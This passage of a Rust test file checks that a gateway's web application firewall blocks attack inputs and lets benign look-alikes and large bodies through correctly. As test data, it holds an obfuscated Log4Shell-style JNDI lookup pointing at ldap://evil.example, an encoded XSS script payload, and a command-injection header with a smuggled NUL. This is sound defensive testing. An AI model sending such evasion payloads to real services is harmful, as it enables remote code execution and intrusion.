    ] {
        let resp = gw
            .http
            .post(gw.url("/guarded/x"))
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        problem(resp, 403, reason).await;
    }
    // A NUL that percent-decoding makes, in a header; a body with a Content-Encoding,
    // which the rules cannot read (a compressed body would also pass the size limit).
    let resp = gw
        .http
        .get(gw.url("/guarded/x"))
        .header("user-agent", "x%3Bi%00d")
        .send()
        .await
        .unwrap();
    problem(resp, 403, "waf.rce").await;
    for encoding in ["gzip", "deflate", "br"] {
        let resp = gw
            .http
            .post(gw.url("/guarded/x"))
            .header("content-type", "text/plain")
            .header("content-encoding", encoding)
            .body(b"\x1f\x8b\x08\x00compressed".to_vec())
            .send()
            .await
            .unwrap();
        problem(resp, 400, "waf.body_unparsable").await;
    }
    // A file of any bytes uploads: its content is not inspected, and not read as text.
    let mut upload = b"--XB\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nPhoto\r\n--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n".to_vec();
    upload.extend((0..=255u8).cycle().take(4096));
    upload.extend_from_slice(b"\r\n--XB--\r\n");
    let resp = gw
        .http
        .post(gw.url("/guarded/x"))
        .header("content-type", "multipart/form-data; boundary=XB")
        .body(upload)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let iis = gw
        .http
        .get(gw.url("/guarded/x?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"))
        .send()
        .await
        .unwrap();
    problem(iis, 403, "waf.xss").await;
    let dotless = gw
        .http
        .get(gw.url("/guarded/x"))
        .header("accept-language", "${jnd${upper:\u{131}}:ldap://evil.example/a}")
        .send()
        .await
        .unwrap();
    problem(dotless, 403, "waf.jndi").await;

    // Look-alikes: prose with separators, documentation of lookups, ordinary XML and forms.
    let benign: Vec<(&str, String)> = vec![
        (json, r#"{"v":"Tickets; id required at the door"}"#.into()),
        (json, r#"{"v":"Pick a size; type 2 is the large one"}"#.into()),
        (json, r#"{"v":"Hello {{name}}, your total is ${price}"}"#.into()),
        (
            json,
            r#"{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"x"}"#.into(),
        ),
        (
            xml,
            "<?xml version='1.0'?><order id='7'><note>O'Brien &amp; sons <![CDATA[<b>bold</b> text]]></note></order>"
                .into(),
        ),
        (
            multipart,
            part(r#"name="upload"; filename="report.pdf""#, "%PDF-1.7 binary-ish content"),
        ),
        (json, r#"{"settings":"{theme: dark, config: compact}"}"#.into()),
        (json, r#"{"v":"See /etc/hosts in the docs for the names"}"#.into()),
        (json, r#"{"v":"Use `ls -la` to list; then cat the file"}"#.into()),
        (json, "{\"v\":\"```\\nls -la\\ncat notes.txt\\n```\"}".into()),
        (
            xml,
            "<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'><soap:Body><order id='1' xml:lang='en'>Tea</order></soap:Body></soap:Envelope>".into(),
        ),
    ];
    let benign: Vec<(&str, String)> = benign
        .into_iter()
        .chain([("application/json; charset=UTF-8", r#"{"v":"plain"}"#.to_owned())])
        .collect();
    for (content_type, body) in &benign {
        assert_eq!(
            post(&gw, "/guarded/x", content_type, body).await.status(),
            200,
            "{body}"
        );
    }
}

#[tokio::test]
async fn bodies_larger_than_the_waf_inspects_are_refused_not_inspected() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let config = format!("[server]\ndata_dir = \"DATA_DIR\"\n{ROUTES}\n[waf]\nmax_inspected_bytes = 1000\n");
    let gw = start(&config).await;
    let json = |len: usize| format!(r#"{{"a":"{}"}}"#, "x".repeat(len - 8));
    // At the limit it is inspected; past it (a declared length), refused at once.
    assert_eq!(
        post(&gw, "/guarded/x", "application/json", &json(1000)).await.status(),
        200
    );
    let resp = post(&gw, "/guarded/x", "application/json", &json(1001)).await;
    let body = problem(resp, 413, "waf.body_too_large").await;
    assert!(body["detail"].as_str().unwrap().contains("1000 bytes"), "{body}");
    // A route without the WAF keeps the route's limit; so does a multipart body's file,
    // which is not inspected.
    assert_eq!(
        post(&gw, "/plain/x", "application/json", &json(5000)).await.status(),
        200
    );
    let upload = format!(
        "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n{}\r\n--XB--\r\n",
        "y".repeat(5000)
    );
    let resp = post(&gw, "/guarded/x", "multipart/form-data; boundary=XB", &upload).await;
    assert_eq!(resp.status(), 200);
    // Its fields are inspected, and measured: past the limit, refused.
    let fields = upload.replace("; filename=\"a.bin\"", "");
    let resp = post(&gw, "/guarded/x", "multipart/form-data; boundary=XB", &fields).await;
    let body = problem(resp, 413, "waf.body_too_large").await;
    assert!(body["detail"].as_str().unwrap().contains("1000 bytes"), "{body}");
    // Without a declared length (chunked), measured once read.
    let body = json(1500);
    let mut stream = tokio::net::TcpStream::connect(gw.proxy).await.unwrap();
    let request = format!(
        "POST /guarded/x HTTP/1.1\r\nHost: gw.test\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{body}\r\n0\r\n\r\n",
        body.len()
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer))
        .await
        .unwrap()
        .unwrap();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("waf.body_too_large"), "{answer}");
}
